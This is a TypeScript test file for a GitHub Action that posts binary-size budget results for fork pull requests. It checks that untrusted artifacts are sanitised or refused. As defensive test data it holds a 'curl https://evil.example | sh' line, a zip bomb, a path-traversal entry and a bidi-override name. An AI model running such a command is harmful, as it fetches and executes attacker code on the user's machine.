import assert from 'node:assert/strict'
import { test } from 'node:test'
import { strToU8, zipSync } from 'fflate'
import type { Result } from '../../src/core/report/result.ts'
import { cell, sizes } from '../core/judging.ts'
import { result } from '../core/results.ts'
import { type Foreign, forkEvent, headSha, runUrl, tell, uploaded } from '../github/foreign.ts'
import { commentsInMemory } from '../github/stand-in.ts'

const MB = 1_000_000
const measured = (change: Partial<Result> = {}): Result => ({
  ...result({ cells: [cell({ size: sizes(9 * MB, 10 * MB) })] }),
  ...change,
})
const budgets = 'budgets: [{ metric: size, max: 9.5MB }]\n'

test('a run in a fork is told on its pull request, by figures, the base branch’s budgets and our own words', async () => {
  const own = measured()
  const generous = { ...own.judging, budgets: [] }
  const report = {
    ...own.report,
    notes: [{ kind: 'module-outside' as const, module: 'Reviewed by the security team.' }],
    reproduce: ['curl https://evil.example | sh'],
    verdict: 'pass' as const,
    revisions: { ...own.report.revisions, how: { kind: 'fork' as const, branch: 'Trust me.' } },
    config: { file: 'x', overrideLabel: 'bug' },
  }
  const { bodies, statuses, reports } = await tell({
    artifacts: uploaded({ ...own, judging: generous, report }),
    config: budgets,
    labels: ['bug'],
  })
  const [body = '', ...others] = bodies
  assert.deepEqual(others, [])
  assert.match(body, /^<!-- go-binary-budget: ci \. --><!-- run 500 attempt 2 head c{40}/)
  assert.match(
    body,
    /### Binary budget: failed\. `server` \(stripped, linux\/amd64\): 10\.00 MB \(\+1\.00 MB\), limit 9\.5 MB/,
  )
  assert.match(body, /the budgets are those of main/)
  assert.doesNotMatch(body, /security team|evil|Trust me/)
  assert.equal(reports[0]?.report.verdict, 'fail')
  assert.deepEqual(statuses, [
    {
      sha: headSha,
      state: 'failure',
      context: 'Binary budget',
      description: 'failed. server (stripped, linux/amd64): 10.00 MB (+1.00 MB), limit 9.5 MB',
      target_url: runUrl,
    },
  ])
})

test('the override label of the base branch’s config lets it pass', async () => {
  const { bodies, statuses } = await tell({
    artifacts: uploaded(measured()),
    config: budgets,
    labels: ['binary-budget-override'],
  })
  assert.match(`${bodies}`, /### Binary budget: overridden\./)
  assert.deepEqual(
    statuses.map(({ state }) => state),
    ['success'],
  )
})

test('it says why a figure is missing, in our words and without what a program printed', async () => {
  const reason = {
    kind: 'starts-failed',
    side: 'head',
    failed: 1,
    starts: 3,
    outcome: 'crashed',
    said: 'HOSTILE one',
    lastWords: 'HOSTILE two',
  } as const
  const failure = {
    side: 'head',
    output: 'HOSTILE three',
    reason: {
      kind: 'does-not-build',
      side: 'head',
      why: { kind: 'build-ended', by: 'build-line', command: 'HOSTILE four', code: 2 },
    },
  } as const
  const cells = [
    cell({ size: sizes(9 * MB, 9 * MB), 'cold-start': { decision: 'not-measured', reason } }, { startFailure: reason }),
    cell({}, { program: 'broken', failure }),
  ]
  const start = { kind: 'as-configured', command: 'HOSTILE five', ready: { kind: 'exit', code: 0 } } as const
  const { bodies } = await tell({ artifacts: uploaded(result({ cells: cells.map((one) => ({ ...one, start })) })) })
  const [body = ''] = bodies
  assert.match(body, /does not start in head: 1 of 3 starts of head failed: crashed\./)
  assert.match(body, /`broken` .*: head does not build: The build command ended with exit code 2/)
  assert.match(body, /- server: as the run says/)
  assert.doesNotMatch(body, /HOSTILE/)
})

test('the jobs of a matrix are one comment, and each working directory has its own', async () => {
  const job = (index: number, directory: string): Result => ({
    ...result({ index, total: 2, cells: [cell({ size: sizes(9 * MB, 10 * MB) }, { program: `p${index}` })] }),
    directory,
  })
  const { bodies, statuses } = await tell({
    artifacts: uploaded(job(0, '.'), job(1, '.'), job(0, 'app'), job(1, 'app')),
  })
  assert.equal(bodies.length, 2)
  for (const body of bodies) assert.match(body, /\| p0 \|[\s\S]*\| p1 \|/)
  assert.deepEqual(
    statuses.map(({ context }) => context),
    ['Binary budget', 'Binary budget (app)'],
  )
})

test('an older run does not overwrite what a newer one said', async () => {
  const comments = commentsInMemory()
  const newer = measured({ run: { id: 500, attempt: 2 } })
  await tell({ artifacts: uploaded(newer), comments })
  const [before] = comments.comments.map(({ body }) => body)
  const older = measured({ run: { id: 500, attempt: 1 } })
  const { reports } = await tell({ artifacts: uploaded(older), config: budgets, comments, event: { attempt: 1 } })
  assert.equal(reports[0]?.published?.kind, 'older')
  assert.deepEqual(
    comments.comments.map(({ body }) => body),
    [before],
  )
})

test('nothing is said where nothing is to be said, with the reason', async (t) => {
  const artifacts = uploaded(measured())
  const cases: readonly { name: string; foreign: Foreign; reason: RegExp }[] = [
    { name: 'a run of this repository', foreign: { event: { isFork: false } }, reason: /of this repository itself/ },
    { name: 'a push in the fork', foreign: { event: { event: 'push' } }, reason: /started by push/ },
    { name: 'a head that has moved on', foreign: { standsAt: 'd'.repeat(40) }, reason: /no open pull request/ },
    { name: 'a branch of that name in another fork', foreign: { comesFrom: 'stranger/other' }, reason: /no open pull/ },
    { name: 'another branch', foreign: { event: { headBranch: 'other' } }, reason: /no open pull request/ },
    { name: 'no artifacts', foreign: { artifacts: {} }, reason: /left no results/ },
  ]
  for (const { name, foreign, reason } of cases) {
    await t.test(name, async () => {
      const told = await tell({ artifacts, ...foreign })
      assert.deepEqual([told.reports, told.bodies, told.statuses], [[], [], []])
      assert.match(told.notes.join('\n'), reason)
    })
  }
})

test('an artifact that is no result of the run is refused, with the reason, and the others are told', async (t) => {
  const own = measured()
  const strange = (program: string) => uploaded({ ...own, report: { ...own.report, cells: [cell({}, { program })] } })
  const cases: readonly { name: string; artifacts: Record<string, Uint8Array>; reason: RegExp }[] = [
    { name: 'of another run', artifacts: uploaded(measured({ run: { id: 9, attempt: 1 } })), reason: /another run/ },
    {
      name: 'of an attempt to come, which would outlive all others',
      artifacts: uploaded(measured({ run: { id: 500, attempt: 99 } })),
      reason: /an attempt that has not been/,
    },
    {
      name: 'no zip file',
      artifacts: { 'binary-budget-linux-amd64-1-of-1-attempt-1-00000001': strToU8('<html>') },
      reason: /not a zip file/,
    },
    {
      name: 'a zip file with something else in it',
      artifacts: { 'binary-budget-linux-amd64-1-of-1-attempt-1-00000001': zipSync({ '../../x': strToU8('x') }) },
      reason: /has no result\.json/,
    },
    {
      name: 'a bomb',
      artifacts: {
        'binary-budget-linux-amd64-1-of-1-attempt-1-00000001': zipSync({ 'result.json': new Uint8Array(17_000_000) }),
      },
      reason: /too large/,
    },
    { name: 'a name with a line break', artifacts: strange('a\n# b'), reason: /characters that names do not have/ },
    { name: 'a name that turns the text', artifacts: strange('a\u202eb'), reason: /characters that names do not have/ },
    { name: 'a name like a book', artifacts: strange('x'.repeat(5_000)), reason: /more than 4000 characters/ },
    {
      name: 'more rows than anybody has',
      artifacts: uploaded({ ...own, report: { ...own.report, cells: Array.from({ length: 2_001 }, () => cell({})) } }),
      reason: /more than 2000 rows/,
    },
  ]
  for (const { name, artifacts, reason } of cases) {
    await t.test(name, async () => {
      const good = uploaded(measured({ platform: 'linux/arm64' }))
      const { notes, bodies } = await tell({ artifacts: { ...artifacts, ...good } })
      assert.match(notes.join('\n'), reason)
      assert.equal(bodies.length, 1)
    })
  }
})

test('a status is never success where a result is missing or could not be used', async (t) => {
  const job = (index: number) =>
    result({ index, total: 2, cells: [cell({ size: sizes(9 * MB, 9 * MB) }, { program: `p${index}` })] })
  const [first, second] = [job(0), job(1)]
  const name = 'binary-budget-linux-amd64-2-of-2-attempt-1-00000001'
  const broken = {
    ...second,
    report: { ...second.report, notes: [{ kind: 'module-outside' as const, module: 'x'.repeat(11_000) }] },
  }
  const cases: readonly { name: string; foreign: Foreign; state: string; says: RegExp }[] = [
    { name: 'both are there', foreign: { artifacts: uploaded(first, second) }, state: 'success', says: /passed/ },
    {
      name: 'one is missing',
      foreign: { artifacts: uploaded(first) },
      state: 'error',
      says: /1 of 2 jobs has no result/,
    },
    {
      name: 'one is refused, and it is not known that any is missing',
      foreign: {
        artifacts: { ...uploaded(measured()), [name]: strToU8('<html>') },
        config: 'budgets: [{ metric: size, max: 20MB }]\n',
      },
      state: 'error',
      says: /A result could not be used/,
    },
    {
      name: 'one has a text that is too long',
      foreign: { artifacts: uploaded(first, broken) },
      state: 'error',
      says: /1 of 2 jobs has no result/,
    },
    {
      name: 'one cannot be downloaded',
      foreign: {
        artifacts: uploaded(first, second),
        refuse: (request) => (request.endsWith('/actions/artifacts/1/zip') ? 410 : undefined),
      },
      state: 'error',
      says: /1 of 2 jobs has no result/,
    },
    {
      name: 'all are refused',
      foreign: { artifacts: { [name]: strToU8('<html>') } },
      state: 'error',
      says: /No result to judge/,
    },
    {
      name: 'a budget is broken besides',
      foreign: { artifacts: uploaded({ ...measured(), job: first.job }), config: budgets },
      state: 'failure',
      says: /failed/,
    },
  ]
  for (const { name: title, foreign, state, says } of cases) {
    await t.test(title, async () => {
      const { statuses, bodies } = await tell({ config: 'budgets: [{ metric: size, max: 20MB }]\n', ...foreign })
      assert.deepEqual(
        statuses.map((status) => status.state),
        [state],
      )
      assert.match(`${statuses[0]?.description}`, says)
      // Green and nothing moved: there is nothing to say.
      assert.equal(bodies.length, state === 'success' ? 0 : 1)
      for (const body of bodies) assert.match(body, says)
    })
  }
})

test('what GitHub refuses is told, and takes nothing else along', async () => {
  const refuse = (request: string) => (request.includes('/statuses/') ? 403 : undefined)
  const { notes, bodies } = await tell({ artifacts: uploaded(measured()), refuse })
  assert.match(notes.join('\n'), /No commit status: 403/)
  assert.equal(bodies.length, 1)
})

test('where the limits of the base branch are not to be had, nothing has passed', async (t) => {
  const own = measured()
  const cases: readonly { name: string; foreign: Foreign; trouble: RegExp | undefined }[] = [
    {
      name: 'a config with mistakes',
      foreign: { artifacts: uploaded(own), config: 'budgets: 7\n' },
      trouble: /^Not judged: the config \.github\/binary-budget\.yml of main has mistakes\.$/,
    },
    {
      name: 'no config here, but another one where it was measured',
      foreign: { artifacts: uploaded({ ...own, judging: { ...own.judging, configFile: 'ci/budget.yml' } }) },
      trouble: /^Not judged: main has no \.github\/binary-budget\.yml, .*input "config"\.$/,
    },
    { name: 'no config anywhere is no limit', foreign: { artifacts: uploaded(own) }, trouble: undefined },
  ]
  for (const { name, foreign, trouble } of cases) {
    await t.test(name, async () => {
      const { notes, statuses, bodies } = await tell(foreign)
      assert.deepEqual(
        statuses.map(({ state }) => state),
        [trouble === undefined ? 'success' : 'error'],
      )
      if (trouble === undefined) return
      assert.ok(
        notes.some((note) => trouble.test(note)),
        notes.join('\n'),
      )
      assert.match(`${statuses[0]?.description}`, /^Not judged: /)
      assert.match(bodies.join('\n'), /Not judged: /)
    })
  }
})

test('the event of a run in a fork is read as GitHub sends it', () => {
  assert.deepEqual(forkEvent(), {
    kind: 'workflow_run',
    runId: 500,
    attempt: 2,
    workflow: 'ci',
    event: 'pull_request',
    headSha,
    headBranch: 'changes',
    headRepo: 'stranger/Hello-World',
    isFork: true,
    defaultBranch: 'main',
    sender: 'Codertocat',
  })
})
